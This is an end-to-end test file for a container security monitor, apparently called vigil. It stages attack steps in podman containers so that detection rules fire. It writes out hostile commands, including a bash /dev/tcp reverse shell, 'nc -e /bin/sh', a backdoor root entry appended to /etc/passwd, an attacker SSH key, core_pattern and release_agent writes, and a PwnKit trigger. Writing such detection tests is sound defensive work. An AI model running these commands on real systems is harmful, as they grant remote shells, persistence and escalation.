//! Every default rule of priority ERROR or CRITICAL fires live: the real `vigil monitor` with
//! the embedded rules watches real podman containers from the test image, each doing one step
//! of an attack, and each expected alert must name the rule, the container (id, name, image)
//! and the key field of the action (file, command line, ...).
//!
//! Actions that would change the host when they succeed are attempts that cannot: a module
//! load and `bpf()` from a default container are refused by its seccomp profile, writes to
//! core_pattern and release_agent by its read-only /proc/sys and cgroupfs. The rules report
//! such attempts from containers (an attempt is the signal); the sensor sees calls refused by
//! seccomp from `sys_exit`. Privileged actions stay inside the container's own namespaces
//! (a tmpfs mount, nsenter into its own pid 1, its own UTS domain name), and the test checks
//! that the host's core_pattern and domain name are unchanged afterwards.
//!
//! Four ERROR/CRITICAL rules are checked by `monitor_e2e.rs` (container_threats_raise_default_
//! rule_alerts) and not repeated here; `error_and_critical_rules_all_have_a_live_case` keeps
//! the two lists complete as rules are added.

mod common;

use common::{
    assert_container_metadata, in_container, require, reverse_shell_listener, run_vigil, serial,
    unique, Containers, Vigil,
};
use serde_json::Value;
use std::collections::BTreeSet;
use std::time::{Duration, Instant};

/// ERROR/CRITICAL rules whose live case is in `monitor_e2e.rs`.
const COVERED_BY_MONITOR_E2E: &[&str] = &[
    "Fileless execution from memory",
    "Dropped binary executed in container",
    "Process attached to another with ptrace",
    "Write below binary directory in container",
];

/// What an output field must hold.
enum Is {
    Str(&'static str),
    Contains(&'static str),
    EndsWith(String),
    Json(Value),
    Like(&'static str, fn(&str) -> bool),
}

impl Is {
    fn test(&self, v: &Value) -> bool {
        let s = v.as_str();
        match self {
            Is::Str(want) => s == Some(*want),
            Is::Contains(part) => s.is_some_and(|s| s.contains(part)),
            Is::EndsWith(end) => s.is_some_and(|s| s.ends_with(end.as_str())),
            Is::Json(want) => v == want,
            Is::Like(_, f) => s.is_some_and(f),
        }
    }

    fn describe(&self) -> String {
        match self {
            Is::Str(w) => format!("= {w:?}"),
            Is::Contains(p) => format!("contains {p:?}"),
            Is::EndsWith(e) => format!("ends with {e:?}"),
            Is::Json(w) => format!("= {w}"),
            Is::Like(d, _) => d.to_string(),
        }
    }
}

/// An alert a case must raise: the rule and its key output fields.
struct Want {
    rule: &'static str,
    fields: Vec<(&'static str, Is)>,
}

/// One attack step in its own container.
struct Case {
    tag: &'static str,
    opts: Vec<String>,
    cmd: Vec<String>,
    wants: Vec<Want>,
}

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

fn case(tag: &'static str, opts: &[&str], cmd: &[&str], wants: Vec<Want>) -> Case {
    Case {
        tag,
        opts: strs(opts),
        cmd: strs(cmd),
        wants,
    }
}

fn want(rule: &'static str, fields: Vec<(&'static str, Is)>) -> Vec<Want> {
    vec![Want { rule, fields }]
}

/// Host-side endpoints some cases talk to.
struct Fixtures {
    /// A listening TCP port on 127.0.0.2, below the ephemeral range (a server's port is lower
    /// than the client's, which is how the reverse-shell rule tells the client end apart).
    revshell_port: u16,
    /// A listening unix socket the runtime-socket case mounts as /var/run/docker.sock.
    runtime_socket: String,
}

/// Python: finit_module on a descriptor that does not exist.
const MODULE_LOAD_PY: &str = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('finit_module', libc.syscall(313, -1, b'', 0), ctypes.get_errno())";
/// Python: bpf(BPF_PROG_LOAD) without an attribute block.
const BPF_LOAD_PY: &str = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nprint('bpf', libc.syscall(321, 5, None, 0), ctypes.get_errno())";
/// Python: a child process's memory opened for writing (never written).
const PROC_MEM_PY: &str = "import os, time\npid = os.fork()\nif pid == 0:\n    time.sleep(5)\n    os._exit(0)\nfd = os.open('/proc/%d/mem' % pid, os.O_RDWR)\nos.close(fd)\nos.kill(pid, 9)";
/// Python: connect to the Docker socket.
const DOCKER_SOCK_PY: &str = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')\nprint('connected')";
/// Python: execve with an empty argv (the PwnKit trigger) of /opt/pkexec.
const EMPTY_ARGV_PY: &str = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nnull = (ctypes.c_char_p * 1)(None)\nlibc.execve(b'/opt/pkexec', null, null)\nprint('execve failed', ctypes.get_errno())";
/// Python as uid 1000 holding CAP_SETUID (ambient, from setpriv): becomes root.
const SETUID_ROOT_PY: &str = "import os; os.setuid(0); print('uid', os.getuid())";

fn is_proc_mem(s: &str) -> bool {
    s.strip_prefix("/proc/")
        .and_then(|r| r.strip_suffix("/mem"))
        .is_some_and(|pid| !pid.is_empty() && pid.bytes().all(|b| b.is_ascii_digit()))
}

/// The live cases, one container each. Default containers run with `--network=none`.
fn cases(fx: &Fixtures) -> Vec<Case> {
    let none = "--network=none";
    let revshell = format!("bash -i >& /dev/tcp/127.0.0.2/{} 0>&1", fx.revshell_port);
    let docker_sock = format!("{}:/var/run/docker.sock", fx.runtime_socket);
    vec![
        case(
            "miner",
            &[none],
            &[
                "sh",
                "-c",
                "ln -s /usr/bin/true /opt/xmrig && /opt/xmrig -o stratum+tcp://pool.invalid:3333 --donate-level 1",
            ],
            want(
                "Crypto mining activity",
                vec![(
                    "proc.cmdline",
                    Is::Str("xmrig -o stratum+tcp://pool.invalid:3333 --donate-level 1"),
                )],
            ),
        ),
        // A tmpfs /tmp (an emptyDir, say): not the overlay's upper layer, so this is not the
        // dropped-binary rule's.
        case(
            "tmpexec",
            &[none, "--tmpfs", "/tmp:rw,exec"],
            &["sh", "-c", "cp /bin/true /tmp/stage && /tmp/stage"],
            want(
                "Execution from temporary directory",
                vec![("proc.exepath", Is::Str("/tmp/stage"))],
            ),
        ),
        case(
            "revshell",
            &["--network=host"],
            &["bash", "-c", &revshell],
            want(
                "Standard stream redirected to network socket",
                vec![(
                    "fd.name",
                    Is::EndsWith(format!("->127.0.0.2:{}", fx.revshell_port)),
                )],
            ),
        ),
        // netcat-openbsd has no -e: the exec is the signal, not whether nc accepts it.
        case(
            "ncexec",
            &[none],
            &["nc", "-e", "/bin/sh", "127.0.0.1", "9"],
            want(
                "Netcat or socat executing a program",
                vec![("proc.cmdline", Is::Str("nc -e /bin/sh 127.0.0.1 9"))],
            ),
        ),
        // Refused: the cgroupfs of a default container is read-only.
        case(
            "release-agent",
            &[none],
            &["sh", "-c", "echo /tmp/x > /sys/fs/cgroup/memory/release_agent"],
            want(
                "Cgroup release_agent or notify_on_release written",
                vec![(
                    "evt.arg.name",
                    Is::Str("/sys/fs/cgroup/memory/release_agent"),
                )],
            ),
        ),
        // Refused by the read-only /proc/sys; were it allowed, it would write back the value
        // it read (the redirection opens before cat reads).
        case(
            "core-pattern",
            &[none],
            &[
                "sh",
                "-c",
                "cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern",
            ],
            want(
                "Kernel core_pattern or usermode helper modified",
                vec![("evt.arg.name", Is::Str("/proc/sys/kernel/core_pattern"))],
            ),
        ),
        case(
            "procmem",
            &[none],
            &["python3", "-c", PROC_MEM_PY],
            want(
                "Write to another process's memory file",
                vec![("fd.name", Is::Like("is /proc/<pid>/mem", is_proc_mem))],
            ),
        ),
        case(
            "mount",
            &[none, "--cap-add", "SYS_ADMIN"],
            &["mount", "-t", "tmpfs", "vigil-e2e", "/mnt"],
            want(
                "Filesystem mounted in container",
                vec![("evt.arg.dir", Is::Str("/mnt")), ("evt.arg.type", Is::Str("tmpfs"))],
            ),
        ),
        // Into the container's own pid 1: the namespaces it is already in.
        case(
            "nsenter",
            &[none, "--cap-add", "SYS_ADMIN"],
            &["nsenter", "--target", "1", "--mount", "--uts", "true"],
            vec![
                Want {
                    rule: "Nsenter run in container",
                    fields: vec![(
                        "proc.cmdline",
                        Is::Str("nsenter --target 1 --mount --uts true"),
                    )],
                },
                Want {
                    rule: "Namespace entered from container",
                    fields: vec![("proc.name", Is::Str("nsenter"))],
                },
            ],
        ),
        case(
            "runtime-socket",
            &[none, "-v", &docker_sock],
            &["python3", "-c", DOCKER_SOCK_PY],
            want(
                "Container runtime socket accessed from container",
                vec![("fd.name", Is::Str("/var/run/docker.sock"))],
            ),
        ),
        // Refused by the default seccomp profile before the kernel looks at the arguments.
        case(
            "kmod",
            &[none],
            &["python3", "-c", MODULE_LOAD_PY],
            want(
                "Kernel module loaded from container",
                vec![("evt.res", Is::Str("EPERM")), ("proc.name", Is::Str("python3"))],
            ),
        ),
        case(
            "bpf",
            &[none],
            &["python3", "-c", BPF_LOAD_PY],
            want(
                "BPF program loaded from container",
                vec![
                    ("evt.arg.cmd", Is::Contains("BPF_PROG_LOAD")),
                    ("evt.res", Is::Str("EPERM")),
                ],
            ),
        ),
        case(
            "debugfs",
            &[none, "--privileged"],
            &["debugfs", "-R", "stats", "/dev/null"],
            want(
                "Debugfs run in privileged container",
                vec![
                    ("proc.cmdline", Is::Str("debugfs -R stats /dev/null")),
                    ("container.privileged", Is::Json(Value::Bool(true))),
                ],
            ),
        ),
        // The domain name lives in the container's own UTS namespace.
        case(
            "sysctl",
            &[none, "--privileged", "--uts=private"],
            &["sysctl", "-w", "kernel.domainname=vigil-e2e"],
            want(
                "Write to /proc/sys in container",
                vec![("fd.name", Is::Str("/proc/sys/kernel/domainname"))],
            ),
        ),
        case(
            "setuid",
            &[none],
            &[
                "setpriv",
                "--reuid=1000",
                "--regid=1000",
                "--clear-groups",
                "--inh-caps=+setuid",
                "--ambient-caps=+setuid",
                "python3",
                "-c",
                SETUID_ROOT_PY,
            ],
            want(
                "Non-root process became root with setuid",
                vec![
                    ("proc.cmdline", Is::Contains("os.setuid(0)")),
                    ("user.uid", Is::Json(Value::from(1000))),
                    // The image has no uid 1000 (the host may: its name must not leak in).
                    ("user.name", Is::Json(Value::Null)),
                ],
            ),
        ),
        // The image has no polkit: a link named pkexec gives the program its name.
        case(
            "pkexec",
            &[none],
            &[
                "sh",
                "-c",
                &format!("ln -s /usr/bin/true /opt/pkexec && python3 -c \"{EMPTY_ARGV_PY}\""),
            ],
            want(
                "Pkexec run with empty arguments",
                vec![("proc.exepath", Is::Str("/usr/bin/true"))],
            ),
        ),
        case(
            "preload",
            &[none],
            &["touch", "/etc/ld.so.preload"],
            want(
                "Dynamic linker preload configured",
                vec![("fd.name", Is::Str("/etc/ld.so.preload"))],
            ),
        ),
        case(
            "authkeys",
            &[none],
            &[
                "sh",
                "-c",
                "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvigil attacker' >> /root/.ssh/authorized_keys",
            ],
            want(
                "SSH authorized keys modified",
                vec![("fd.name", Is::Str("/root/.ssh/authorized_keys"))],
            ),
        ),
        // The container's own pid namespace has no vigil to kill.
        case(
            "tamper",
            &[none],
            &["pkill", "-x", "vigil"],
            want(
                "Vigil tampering",
                vec![("proc.cmdline", Is::Str("pkill -x vigil"))],
            ),
        ),
        case(
            "etc",
            &[none],
            &[
                "sh",
                "-c",
                "echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd",
            ],
            want(
                "Write below /etc in container",
                vec![("fd.name", Is::Str("/etc/passwd"))],
            ),
        ),
    ]
}

/// The rules of the embedded default set at ERROR or above, from `vigil rules list --json`.
fn error_and_critical_rules() -> BTreeSet<String> {
    let out = run_vigil(&["rules", "list", "--json"]);
    let rules: Vec<Value> = serde_json::from_slice(&out.stdout).expect("rules list JSON");
    rules
        .iter()
        .filter(|r| {
            matches!(
                r["priority"].as_str(),
                Some("Emergency" | "Alert" | "Critical" | "Error")
            )
        })
        .map(|r| r["name"].as_str().unwrap().to_string())
        .collect()
}

/// Runs without root: the live cases here and in monitor_e2e.rs name exactly the default rules
/// at ERROR or above, so a new severe rule cannot ship without a live case.
#[test]
fn error_and_critical_rules_all_have_a_live_case() {
    let fx = Fixtures {
        revshell_port: 1,
        runtime_socket: String::new(),
    };
    let mut covered: BTreeSet<String> = COVERED_BY_MONITOR_E2E
        .iter()
        .map(|s| s.to_string())
        .collect();
    for c in cases(&fx) {
        for w in c.wants {
            covered.insert(w.rule.to_string());
        }
    }
    let severe = error_and_critical_rules();
    assert_eq!(severe.len(), 25, "{severe:#?}");
    let missing: Vec<_> = severe.difference(&covered).collect();
    let unknown: Vec<_> = covered.difference(&severe).collect();
    assert!(
        missing.is_empty(),
        "ERROR/CRITICAL rules without a live case: {missing:?}"
    );
    assert!(
        unknown.is_empty(),
        "live cases for rules that are not ERROR/CRITICAL defaults: {unknown:?}"
    );
}

fn host_file(path: &str) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("read {path}: {e}"))
}

#[test]
fn error_and_critical_rules_fire_on_live_container_actions() {
    require!(true);
    let _g = serial();
    let started = Instant::now();
    let dir = tempfile::tempdir().unwrap();
    let sock = dir.path().join("docker.sock");
    let _runtime_socket = std::os::unix::net::UnixListener::bind(&sock).expect("bind socket");
    let fx = Fixtures {
        revshell_port: reverse_shell_listener("127.0.0.2"),
        runtime_socket: sock.to_str().unwrap().to_string(),
    };
    let core_pattern = host_file("/proc/sys/kernel/core_pattern");
    let domainname = host_file("/proc/sys/kernel/domainname");

    let m = Vigil::monitor(&[]);
    let cases = cases(&fx);
    let names: Vec<String> = cases.iter().map(|c| unique(c.tag)).collect();
    let mut containers = Containers::default();
    for (c, name) in cases.iter().zip(&names) {
        let opts: Vec<&str> = c.opts.iter().map(String::as_str).collect();
        // The entry point runs the step and stays a second longer. The monitor learns which
        // container a new cgroup belongs to from /proc/<pid>/cgroup of its processes; on a
        // busy machine it reads events late, and a container whose only process has already
        // exited (and whose cgroup is gone) would be taken for the host.
        let mut cmd = vec!["sh", "-c", "\"$@\"; sleep 1", "sh"];
        cmd.extend(c.cmd.iter().map(String::as_str));
        containers.run(name, &opts, &cmd);
    }

    // Check everything, then report every miss at once.
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut failures = Vec::new();
    for (c, name) in cases.iter().zip(&names) {
        for w in &c.wants {
            let left = deadline.saturating_duration_since(Instant::now());
            let found = m.wait_for(w.rule, left, |a| {
                in_container(a, name)
                    && w.fields
                        .iter()
                        .all(|(f, is)| is.test(&a["output_fields"][*f]))
            });
            match found {
                Some(a) => assert_container_metadata(&a, name),
                None => {
                    let expected: Vec<String> = w
                        .fields
                        .iter()
                        .map(|(f, is)| format!("{f} {}", is.describe()))
                        .collect();
                    // Its container's alerts, and this rule's alerts from anywhere (a
                    // container taken for the host, or without a name).
                    let got: Vec<String> = m
                        .alerts()
                        .iter()
                        .filter(|a| in_container(a, name) || a["rule"] == w.rule)
                        .map(|a| format!("    {} | {}", a["rule"], a["output_fields"]))
                        .collect();
                    failures.push(format!(
                        "case {}: no '{}' with {}; related alerts:\n{}",
                        c.tag,
                        w.rule,
                        expected.join(", "),
                        got.join("\n")
                    ));
                }
            }
        }
    }
    // The entry-point shell (vpid 1) is not one the runtime started into a running container.
    for (c, name) in cases.iter().zip(&names) {
        let wrong: Vec<Value> = m
            .alerts_for_container(name)
            .into_iter()
            .filter(|a| a["rule"] == "Shell started by runtime exec in container")
            .collect();
        if !wrong.is_empty() {
            failures.push(format!(
                "case {}: its entry-point shell was reported as started by the runtime: {wrong:?}",
                c.tag
            ));
        }
    }
    m.stop();
    drop(containers);
    assert_eq!(
        host_file("/proc/sys/kernel/core_pattern"),
        core_pattern,
        "host core_pattern changed"
    );
    assert_eq!(
        host_file("/proc/sys/kernel/domainname"),
        domainname,
        "host domain name changed"
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    eprintln!(
        "{} cases checked in {:.1} s",
        cases.len(),
        started.elapsed().as_secs_f64()
    );
}
